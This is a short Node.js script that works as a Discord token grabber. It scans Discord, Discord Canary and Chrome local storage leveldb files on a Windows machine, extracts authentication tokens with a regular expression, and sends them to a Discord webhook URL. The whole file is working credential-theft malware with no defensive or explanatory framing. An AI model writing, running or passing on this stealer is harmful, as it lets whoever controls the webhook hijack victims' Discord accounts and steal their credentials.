const fs = require("fs");
const path = require("path");
const axios = require("axios");
const local = process.env.LOCALAPPDATA;
const roaming = process.env.APPDATA;
const paths = {
  Discord: roaming + "\\discord\\Local Storage\\leveldb",
  "Discord Canary": roaming + "\\discordcanary\\Local Storage\\leveldb",
  Chrome: local + "\\Google\\Chrome\\User Data\\Default\\Local Storage\\leveldb",
};
const tokens = [];
for (const p of Object.values(paths)) {
  if (!fs.existsSync(p)) continue;
  for (const file of fs.readdirSync(p)) {
    if (!file.endsWith(".log") && !file.endsWith(".ldb")) continue;
    const content = fs.readFileSync(path.join(p, file), "utf8");
    const m = content.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g);
    if (m) tokens.push(...m);
  }
}
axios.post("https://discord.com/api/webhooks/1098765432109876543/AbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefghijklmnopqrstuvwxyzABCD", {
  content: "```" + tokens.join("\n") + "```",
});
